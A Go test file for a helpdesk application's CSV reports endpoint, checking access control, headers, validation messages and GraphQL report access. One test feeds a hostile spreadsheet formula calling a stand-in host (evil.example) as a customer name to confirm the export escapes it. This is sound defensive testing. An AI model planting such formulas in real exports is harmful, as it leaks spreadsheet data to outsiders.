package door_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"slices"
	"strings"
	"testing"

	"aparte/models"
)

func (c client) csv(t testing.TB, query string) reply {
	t.Helper()
	return c.send(t, http.MethodGet, "/reports.csv?"+query, "", nil)
}

// TestReportsAsCSVAreTheStaffs: to customers, and through their eyes, there is no such page.
func TestReportsAsCSVAreTheStaffs(t *testing.T) {
	onBoth(t, func(t *testing.T, w *world) {
		c, _ := serve(t, w)
		const asked = "metric=VOLUME&groupBy=REQUESTER"
		for name, who := range map[string]client{
			"an end user":                      c.as(w.Ann.Token),
			"an administrator as an end user":  c.as(w.Admin.Token).viewingAs(w.Ann.ID),
			"an agent as any requester":        c.as(w.Agent.Token).viewingAs("me"),
			"an agent who names nobody's eyes": c.as(w.Agent.Token).viewingAs("usr_0"),
		} {
			got, missing := who.csv(t, asked), who.send(t, http.MethodGet, "/nothing.csv?"+asked, "", nil)
			if got.status != http.StatusNotFound || got.bytes(t) != missing.bytes(t) {
				t.Errorf("%s is answered\n%s\nand where there is no page\n%s", name, got.bytes(t), missing.bytes(t))
			}
			posted, missing := who.send(t, http.MethodPost, "/reports.csv", "", nil), who.send(t, http.MethodPost, "/nothing.csv", "", nil)
			if posted.bytes(t) != missing.bytes(t) {
				t.Errorf("%s posts and is answered\n%s\nand where there is no page\n%s", name, posted.bytes(t), missing.bytes(t))
			}
		}
		for name, token := range map[string]string{"a stranger": "", "whoever has a wrong token": "aparte_acme_0"} {
			if got := c.as(token).csv(t, asked); got.status != http.StatusUnauthorized || got.header.Get("WWW-Authenticate") == "" || got.code(t) != "UNAUTHENTICATED" {
				t.Errorf("%s: %d %s", name, got.status, got.body)
			}
		}
	})
}

// TestReportsAsCSV are what Query.report answers, as a spreadsheet reads it.
func TestReportsAsCSV(t *testing.T) {
	onBoth(t, func(t *testing.T, w *world) {
		c, _ := serve(t, w)
		got := c.as(w.Agent.Token).csv(t, "metric=VOLUME&groupBy=REQUESTER&requesterId="+w.Ann.ID+"&interval=DAY&timeZone=Europe/Paris&from=2026-03-02T00:00:00Z&to=2026-03-03T00:00:00Z&private=true")
		for name, value := range map[string]string{
			"Content-Type": "text/csv; charset=utf-8; header=present", "Content-Disposition": `attachment; filename="volume.csv"`,
			"Cache-Control": "private, no-store", "X-Content-Type-Options": "nosniff", "Vary": "Authorization, Aparte-View-As",
		} {
			if got.header.Get(name) != value {
				t.Errorf("%s is %q, want %q", name, got.header.Get(name), value)
			}
		}
		lines := parsed(t, got)
		if want := []string{"start", "end", "key", "label", "count", "median_seconds", "p90_seconds"}; !slices.Equal(lines[0], want) {
			t.Errorf("the head is %q", lines[0])
		}
		if want := []string{"2026-03-02T01:00:00+01:00", "2026-03-03T00:00:00+01:00", w.Ann.ID, "Ann"}; len(lines) < 2 || !slices.Equal(lines[1][:4], want) {
			t.Errorf("the first line is %q, want %q", lines[1], want)
		}
		if head := c.as(w.Agent.Token).send(t, http.MethodHead, "/reports.csv?metric=VOLUME", "", nil); head.status != http.StatusOK || len(head.body) > 0 {
			t.Errorf("HEAD: %d %q", head.status, head.body)
		}
	})
}

func parsed(t testing.TB, r reply) [][]string {
	t.Helper()
	text, marked := bytes.CutPrefix(r.body, []byte("\uFEFF"))
	if r.status != http.StatusOK || !marked || !bytes.Contains(text, []byte("\r\n")) {
		t.Fatalf("%d %q", r.status, r.body)
	}
	lines, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return lines
}

// TestNoNameIsAFormula: a spreadsheet computes nothing that a customer is called.
func TestNoNameIsAFormula(t *testing.T) {
	w := onOne(t)
	c, _ := serve(t, w)
	for name, want := range map[string]string{
		`=HYPERLINK("http://evil.example?"&A1,"x")`: `'=HYPERLINK("http://evil.example?"&A1,"x")`,
		"+33 1 23": "'+33 1 23", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "＝1": "'＝1", "O'Neil, \"Bob\"": "O'Neil, \"Bob\"", "Zoé =1": "Zoé =1",
	} {
		p := w.NewPerson(t, models.CreateUserInput{Name: name})
		w.open(t, name, w.Agent, models.CreateTicketInput{
			Requester: &models.RequesterInput{ID: &p.ID}, Subject: "x", Comment: &models.NewCommentInput{Body: "y"},
		})
		lines := parsed(t, c.as(w.Agent.Token).csv(t, "metric=VOLUME&groupBy=REQUESTER&requesterId="+p.ID))
		if len(lines) != 2 || lines[1][3] != want || lines[1][4] != "1" {
			t.Errorf("%q is written %q", name, lines)
		}
	}
}

// TestReportsThatCannotBeMadeAsCSVSayWhy, by name.
func TestReportsThatCannotBeMadeAsCSVSayWhy(t *testing.T) {
	w := onOne(t)
	c, _ := serve(t, w)
	for query, want := range map[string]string{
		"":                                  "metric: Say what is to be counted",
		"metric=LOVE":                       "metric: LOVE is not a valid ReportMetric",
		"metric=VOLUME&group=AGENT":         `There is no parameter "group"`,
		"metric=VOLUME&metric=BACKLOG":      "metric: Give this once",
		"metric=VOLUME&timeZone=Mars":       "Europe/Paris",
		"metric=VOLUME&from=yesterday":      "from: a time is wanted here",
		"metric=VOLUME&private=yes":         "private: true or false",
		"metric=VOLUME&tag=%00":             "tag: text must be valid UTF-8",
		"metric=VOLUME&groupBy=AGENT&top=0": "top must be 1 to 9,999",
		"metric=VOLUME&%zz":                 "cannot be read",
		"metric=VOLUME&interval=DAY&from=1900-01-01T00:00:00Z": "at most 10,000 rows",
	} {
		got := c.as(w.Agent.Token).csv(t, query)
		if got.status != http.StatusBadRequest || got.code(t) != "BAD_USER_INPUT" || !strings.Contains(got.errors(t)[0].Message, want) {
			t.Errorf("%s: %d %s, want %q", query, got.status, got.body, want)
		}
	}
	if got := c.as(w.Agent.Token).send(t, http.MethodPost, "/reports.csv", "", nil); got.status != http.StatusMethodNotAllowed || got.header.Get("Allow") != "GET, HEAD" {
		t.Errorf("POST: %d %s", got.status, got.body)
	}
}

// TestReportsOverGraphQL: rows lead to what they are of, and a customer's schema has none of it.
func TestReportsOverGraphQL(t *testing.T) {
	onBoth(t, func(t *testing.T, w *world) {
		c, _ := serve(t, w)
		got := c.as(w.Agent.Token).ask(t, `query($id: ID!) { node(id: $id) { ... on Organization { report(metric: VOLUME, groupBy: REQUESTER) {
			rows { key label count user { id name } organization { id } group { id } others median start } } } } }`, map[string]any{"id": w.Acme.ID})
		rows, _ := got.data(t, "node", "report", "rows").([]any)
		if len(rows) != 1 {
			t.Fatalf("got %s", got.body)
		}
		if row, _ := rows[0].(map[string]any); row["label"] != "Ann" || row["user"] == nil || row["organization"] != nil || row["group"] != nil {
			t.Errorf("got %s", got.body)
		}
		for _, query := range []string{
			`{ report(metric: VOLUME) { rows { count } } }`,
			`{ viewer { user { report(metric: VOLUME) { rows { count } } } } }`,
			`{ viewer { user { organization { report(metric: VOLUME) { rows { count } } } } } }`,
		} {
			if got := c.as(w.Ann.Token).ask(t, query, nil); got.code(t) != "BAD_USER_INPUT" {
				t.Errorf("Ann asks %s and is answered %s", query, got.body)
			}
			if got := c.as(w.Admin.Token).viewingAs(w.Ann.ID).ask(t, query, nil); got.code(t) != "BAD_USER_INPUT" {
				t.Errorf("an administrator asks as Ann %s and is answered %s", query, got.body)
			}
		}
	})
}
